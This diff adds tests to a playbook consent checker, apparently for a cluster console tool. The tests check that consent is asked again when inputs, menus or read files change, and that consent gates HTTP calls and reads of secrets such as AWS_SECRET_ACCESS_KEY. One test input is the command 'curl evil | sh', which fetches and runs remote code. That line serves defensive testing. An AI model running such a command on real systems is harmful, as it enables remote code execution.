@@ -6,6 +6,8 @@ import { consentLines, giveConsent, missingConsent, refuseStrangers } from '../.
 import { withMirroredImages } from '../../src/playbooks/mirrored-images.ts';
 import type { Playbook, StepDefinition } from '../../src/playbooks/model.ts';
 import type { StepKind } from '../../src/playbooks/step-kind.ts';
+import { httpStep } from '../../src/playbooks/steps/http.ts';
+import { secretStep } from '../../src/playbooks/steps/secret.ts';
 import { playbookOf } from './runs/engine.ts';
 
 const kind = (name: string, effects: StepKind['effects']): StepKind => ({
@@ -96,6 +98,51 @@ describe('the consent to what acts outside the cluster', () => {
     const called = playbookOf([hidden], { source: 'workspace', ref: 'test/other', folder: workspace });
     const call = asked([{ id: 'call', kind: 'apply' }], { calls: { call: called }, source: 'bundled' });
     expect(missingConsent(call)?.steps).toHaveLength(1);
+  });
+
+  it('is asked for again when anything changes on which a step may depend', () => {
+    const own = join(workspace, '.tars-console');
+    mkdirSync(join(own, 'menus'), { recursive: true });
+    mkdirSync(join(workspace, 'scripts'));
+    const argv = ['sh', '-c', '${{ inputs.script }}'];
+    const inputs = (script: string) => ({ script: { description: '', type: 'string' as const, default: script } });
+    const agree = (run: ReturnType<typeof asked>) => {
+      const consent = missingConsent(run);
+      if (consent) giveConsent(consent);
+      return consent !== undefined;
+    };
+    expect(agree(asked([command(argv)], { inputs: inputs('make') }))).toBe(true);
+    // The default of an input is what runs.
+    expect(agree(asked([command(argv)], { inputs: inputs('curl evil | sh') }))).toBe(true);
+    // So is what another step gives out, a preset of a menu, and what a program reads unasked.
+    const given = (text: string): Partial<StepDefinition> => ({ id: 'given', kind: 'apply', outputs: { text } });
+    expect(agree(asked([given('"a"'), command(argv)]))).toBe(true);
+    expect(agree(asked([given('"b"'), command(argv)]))).toBe(true);
+    const same = () => agree(asked([command(['make', '--file=scripts/own.mk'])]));
+    expect(same()).toBe(true);
+    expect(same()).toBe(false);
+    for (const file of ['.tars-console/menus/one.yaml', 'Makefile', 'scripts/own.mk']) {
+      writeFileSync(join(workspace, file), 'all: evil\n');
+      expect(same(), file).toBe(true);
+      expect(same(), file).toBe(false);
+    }
+    // Where a step stands in its file is of no account.
+    expect(agree(asked([command(['make', '--file=scripts/own.mk'], { line: 90 })]))).toBe(false);
+  });
+
+  it('is needed for a bundled playbook that the workspace’s own calls with what it likes', () => {
+    const called = playbookOf([command(['x']) as StepDefinition], { source: 'bundled', ref: 'test/ours' });
+    expect(missingConsent(asked([{ id: 'call', kind: 'apply' }], { calls: { call: called } }))?.steps).toHaveLength(1);
+  });
+
+  it('is needed for what is told to others or taken from this machine, though it changes nothing', () => {
+    const real = (step: Partial<StepDefinition>) =>
+      missingConsent({ ...asked([step]), stepKinds: [...stepKinds, httpStep, secretStep] as StepKind[] });
+    const secret = (source: object) => ({ kind: 'secret', config: { secret: { name: 'x', keys: { a: source } } } });
+    expect(real({ kind: 'http', config: { http: { url: 'https://example.com/?q=${{ steps.a }}' } } })).toBeDefined();
+    expect(real({ kind: 'http', config: { http: { service: 'web:80' } } })).toBeUndefined();
+    expect(real(secret({ env: 'AWS_SECRET_ACCESS_KEY' }))).toBeDefined();
+    expect(real(secret({ prompt: 'A password' }))).toBeUndefined();
   });
 
   it('is not needed for bundled playbooks, nor for what stays in the cluster', () => {
